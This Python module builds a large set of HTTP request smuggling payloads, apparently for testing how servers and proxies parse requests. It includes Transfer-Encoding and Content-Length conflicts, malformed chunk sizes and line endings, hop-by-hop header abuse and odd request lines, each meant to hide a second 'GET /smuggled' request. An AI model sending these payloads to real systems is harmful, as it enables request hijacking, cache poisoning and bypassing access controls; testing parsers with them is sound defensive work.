"""Attacks by which one request shall be taken for two, of which the second is GET /smuggled."""

HOST = b"Host: a\r\n"
INNER = b"GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n"
END = b"0\r\n\r\n"


def post(headers: bytes, body: bytes, version: bytes = b"1.1") -> bytes:
    return b"POST /first HTTP/%b\r\n%b%b\r\n%b" % (version, HOST, headers, body)


def sized(headers: bytes, body: bytes, version: bytes = b"1.1") -> bytes:
    """A body whose length is told beside other headers."""
    return post(b"Content-Length: %d\r\n%b" % (len(body), headers), body, version)


def chunked(body: bytes) -> bytes:
    return post(b"Transfer-Encoding: chunked\r\n", body)


def chunk(data: bytes) -> bytes:
    return b"%x\r\n%b\r\n" % (len(data), data)


CODINGS = (  # header lines that one side may take for chunked, and the other not
    *(
        b"Transfer-Encoding: " + value
        for value in (
            *(b"chunked", b"xchunked", b"CHUNKED", b"chunked, identity", b"identity, chunked"),
            *(b"gzip, chunked", b"chunked, chunked", b"chunked,", b",chunked", b"chunked;q=1"),
            *(
                b'"chunked"',
                b"'chunked'",
                b"chunked\0",
                b"\x0bchunked",
                b"chunked\x0b",
                b"chunked\x7f",
            ),
            *(b"chunk", b"identity", b"", b"chunked\r\nTransfer-Encoding: identity"),
            *(b"identity\r\nTransfer-Encoding: chunked", b"chunked\r\nTransfer-Encoding: chunked"),
            *(
                b"chunked\r\nTransfer-Encoding: x",
                b"\r\n chunked",
                b"x\r\n\tchunked",
                b"\xa0chunked",
            ),
        )
    ),
    *(
        b"Transfer-Encoding : chunked",
        b"Transfer-Encoding\t: chunked",
        b"Transfer-Encoding:\tchunked",
    ),
    *(
        b"Transfer-Encoding:chunked",
        b" Transfer-Encoding: chunked",
        b"\tTransfer-Encoding: chunked",
    ),
    *(b"X: y\r\n Transfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked"),
    *(b"X: y\rTransfer-Encoding: chunked", b"X: y\r\n\rTransfer-Encoding: chunked"),
    *(
        b"Transfer_Encoding: chunked",
        b"Transfer-Encoding\0: chunked",
        b"\0Transfer-Encoding: chunked",
    ),
    *(b"tRANSFER-eNCODING: chunked", b"Transfer Encoding: chunked", b"Transfer-Encoding chunked"),
    *(b"X: \0y\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r"),
)
LENGTHS = (  # what may be told as the length of a body of 36 bytes, or of none
    *(b"0\r\nContent-Length: 36", b"36\r\nContent-Length: 0", b"36\r\nContent-Length: 36"),
    *(b"36, 36", b"0, 36", b"36,0", b"+36", b"-36", b"0x24", b"3_6", b"36 0", b"0 36", b"36abc"),
    *(b"", b" ", b"3.6e1", b"36;", b"\x0b36", b"36\x0b", b"36\0", b"\xb236", b"0\n36", b"\r\n 36"),
    *(b"18446744073709551652", b"4294967332", b"9" * 400, b"00000000000000000000000000000036"),
)
SIZES = (  # the line of a chunk of five bytes
    *(b"0x5", b"+5", b"-5", b" 5", b"5 ", b"5\t", b"05", b"5_", b"", b"5h", b"\05", b"5\0"),
    *(b"10000000000000005", b"fffffffffffffffb", b"100000005", b"0" * 100 + b"5", b"5\r", b"5\n"),
    *(
        b"5;\n",
        b"5;a\nb",
        b"5;a\rb",
        b"5;a\r",
        b'5;a="\r\n"',
        b"5;\0",
        b"5;a=\x0bb",
        b"5 ;a",
        b"5\x0b",
    ),
)
ENDS = (b"\n", b"\r", b"", b"XX", b"\n\n", b"\r\r\n", b" \r\n", b"\r\n\r\n", b"\0\0")  # of a chunk
NAMES = (  # header lines whose names are none
    *(b"X Y: z", b"X\0: z", b": z", b"X", b"X(: z", b"X\r: z", b"\xff: z", b"X\x7f: z", b"X;: z"),
)
TARGETS = (  # request lines
    *(
        b"GET http://evil/first HTTP/1.1",
        b"GET http://a@evil/first HTTP/1.1",
        b"GET //evil HTTP/1.1",
    ),
    *(b"GET /first HTTP/1.1 HTTP/1.1", b"GET  /first HTTP/1.1", b"GET /first  HTTP/1.1"),
    *(
        b"GET\t/first\tHTTP/1.1",
        b"GET /first\x0bHTTP/1.1",
        b"GET /first HTTP/1.1 ",
        b" GET /first HTTP/1.1",
    ),
    *(b"GET /first", b"GET /first HTTP/1", b"GET /first HTTP/1.10", b"GET /first HTTP/01.1"),
    *(
        b"GET /first HTTP/2.0",
        b"GET /first http/1.1",
        b"get /first HTTP/1.1",
        b"G\0T /first HTTP/1.1",
    ),
    *(
        b"GET /first\0 HTTP/1.1",
        b"GET /first\r HTTP/1.1",
        b"GET /a\xffb HTTP/1.1",
        b"GET * HTTP/1.1",
    ),
    *(
        b"CONNECT a:80 HTTP/1.1",
        b"CONNECT /first HTTP/1.1",
        b"GET a:80 HTTP/1.1",
        b"GET /a#b HTTP/1.1",
    ),
)
HOP = (  # hop-by-hop abuse, and other headers that a body stands beside
    *(b"Connection: content-length", b"Connection: transfer-encoding", b"Connection: host"),
    *(b"Connection: close, content-length", b"Connection: x-front", b"Keep-Alive: timeout=0"),
    *(b"Expect: 100-continue", b"Expect: 100-continue, x", b"Expect: y\r\nExpect: 100-continue"),
    *(b"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777",),
    *(b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__",),
    *(b"Trailer: Content-Length", b"TE: trailers, chunked", b"Host: b", b"Proxy-Connection: close"),
)

ATTACKS: dict[str, bytes] = {
    "a length, and chunks that end sooner": sized(b"Transfer-Encoding: chunked\r\n", END + INNER),
    "chunks, and a length that ends sooner": post(
        b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", chunk(INNER) + END
    ),
    "a request in a chunk": chunked(chunk(INNER) + END),
    "a request as a body": sized(b"", INNER),
    "a request as a body of GET": sized(b"", INNER).replace(b"POST", b"GET"),
    "a request as a body of HEAD": sized(b"", INNER).replace(b"POST", b"HEAD"),
    "a request as a body of TRACE": sized(b"", INNER).replace(b"POST", b"TRACE"),
    "a request as a body of OPTIONS": sized(b"", INNER).replace(b"POST /first", b"OPTIONS *"),
    "HTTP/1.0, kept alive, chunked": post(
        b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n", END + INNER, b"1.0"
    ),
    "HTTP/1.0, kept alive, both": sized(
        b"Connection: keep-alive\r\nTransfer-Encoding: chunked\r\n", END + INNER, b"1.0"
    ),
    "HTTP/1.0 with a body and no length": post(b"", INNER, b"1.0"),
    "garbage after a body": sized(b"", b"hello") + b"GARBAGE\r\n\r\n" + INNER,
    "garbage after chunks": chunked(chunk(b"hello") + END + b"\0\0" + INNER),
    "a trailer that gives a length": chunked(b"0\r\nContent-Length: 36\r\n\r\n") + b"X" + INNER,
    "a trailer with LF": chunked(b"0\r\nX: y\n\r\n") + b"X" + INNER,
    "a trailer without a colon": chunked(b"0\r\nX\r\n\r\n") + INNER,
    "LF alone": post(b"", b"").replace(b"\r\n", b"\n") + INNER,
    "LF alone at the end of the head": post(b"X: y\n\n", INNER),
    "LF, CR, LF at the end of the head": post(b"X: y\n\r\n", b"X" + INNER),
    "CR alone at the end of the head": post(b"X: y\r\r", b"X" + INNER),
    "an unknown expectation without its body": post(b"Expect: x\r\nContent-Length: 36\r\n", INNER),
    "Expect, and the body never comes": post(
        b"Expect: 100-continue\r\nContent-Length: 99\r\n", INNER
    ),
    "two hosts": post(b"Host: b\r\n", INNER[:4]),
    **{f"coding {line!r}": sized(line + b"\r\n", END + INNER) for line in CODINGS},
    **{f"coding {line!r} alone": post(line + b"\r\n", chunk(INNER) + END) for line in CODINGS},
    **{
        f"length {value!r}": post(b"Content-Length: %b\r\n" % value, INNER + b"X")
        for value in LENGTHS
    },
    **{f"size {line!r}": chunked(line + b"\r\nhello\r\n" + END + b"X" + INNER) for line in SIZES},
    **{f"end {end!r}": chunked(b"5\r\nhello" + end + END + b"X" + INNER) for end in ENDS},
    **{f"name {line!r}": sized(line + b"\r\n", INNER) for line in NAMES},
    **{
        f"line {line!r}": line + b"\r\n" + HOST + b"Content-Length: 36\r\n\r\n" + INNER
        for line in TARGETS
    },
    **{f"header {line!r}": sized(line + b"\r\n", INNER) for line in HOP},
    **{
        f"chunked, header {line!r}": post(
            line + b"\r\nTransfer-Encoding: chunked\r\n", chunk(INNER) + END
        )
        for line in HOP
    },
}
